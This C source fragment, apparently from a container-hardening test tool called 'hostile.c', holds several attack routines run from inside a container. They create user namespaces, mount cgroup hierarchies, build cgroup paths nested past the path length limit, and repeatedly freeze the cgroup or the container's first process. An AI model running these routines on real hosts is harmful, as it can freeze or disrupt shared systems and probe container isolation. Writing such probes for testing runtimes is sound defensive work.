/* What container root does with cgroups once it has a user namespace of its own, in which it may mount hierarchies.
 * A part of hostile.c. */

static void put(const char *path, const char *text) {
    int fd = open(path, O_WRONLY);
    if (fd < 0 || write(fd, text, strlen(text)) < 0) say(path, -errno);
    close(fd);
}
/* A user namespace with root in it, and a place to mount things. */
static void own_namespaces(void) {
    say("unshare", unshare(CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWCGROUP) ? -errno : 0);
    put("/proc/self/setgroups", "deny");
    put("/proc/self/uid_map", "0 0 1");
    put("/proc/self/gid_map", "0 0 1");
    mkdir("/tmp", 0777);
    say("tmpfs", mount("none", "/tmp", "tmpfs", 0, NULL) ? -errno : 0);
}
/* Mounts version 2, or the hierarchy of a controller of version 1, at `at`: whether it can. */
static int mount_hierarchy(const char *controller, const char *at) {
    mkdir(at, 0777);
    int failed = controller ? mount("none", at, "cgroup", 0, controller) : mount("none", at, "cgroup2", 0, NULL);
    say(controller ? controller : "cgroup2", failed ? -errno : 0);
    return !failed;
}

/* deep [MIB]: cgroups below the own one whose paths are longer than a path may be; then `grow MIB`. */
static void attack_deep(char **a) {
    int ready[2];
    if (pipe(ready)) die("pipe");
    if (fork() == 0) {
        const char *controllers[] = {"memory", "freezer", "pids", NULL};
        char name[201];
        memset(name, 'd', 200), name[200] = 0;
        own_namespaces();
        int most = 0;
        for (int i = 0; i < 4; i++) {
            char at[64];
            snprintf(at, sizeof at, "/tmp/%d", i);
            if (!mount_hierarchy(controllers[i], at) || chdir(at)) continue;
            int depth = 0;
            while (depth < 25 && !mkdir(name, 0755) && !chdir(name)) depth++;
            if (depth > most) most = depth;
        }
        say("depth", most);
        if (write(ready[1], "x", 1) != 1) die("write");
        for (;;) pause();
    }
    char byte;
    if (read(ready[0], &byte, 1) != 1) die("read");
    if (a[0]) attack_grow(a);
    for (;;) pause();
}

/* unified: freezes the cgroup of version 2 that it is in. */
static void attack_unified(char **a) {
    (void)a;
    own_namespaces();
    mount_hierarchy(NULL, "/tmp/u");
    say("freezing", 1);
    put("/tmp/u/cgroup.freeze", "1");
    for (;;) pause();
}

/* ice: the first process is frozen in a cgroup below the container's, again and again, by one that is not. */
static void attack_ice(char **a) {
    (void)a;
    if (fork() == 0) {
        own_namespaces();
        if (!mount_hierarchy("freezer", "/tmp/f")) exit(0);
        mkdir("/tmp/f/ice", 0755);
        put("/tmp/f/ice/cgroup.procs", "1");
        int state = open("/tmp/f/ice/freezer.state", O_RDWR);
        char text[16] = "";
        while (strncmp(text, "FROZEN", 6)) {
            if (write(state, "FROZEN", 6) != 6) die("freeze");
            if (pread(state, text, sizeof text - 1, 0) < 0) die("read");
        }
        say("frozen", 1);
        for (;;)
            if (write(state, "FROZEN", 6) != 6) die("freeze");
    }
    for (;;) usleep(1000);
}
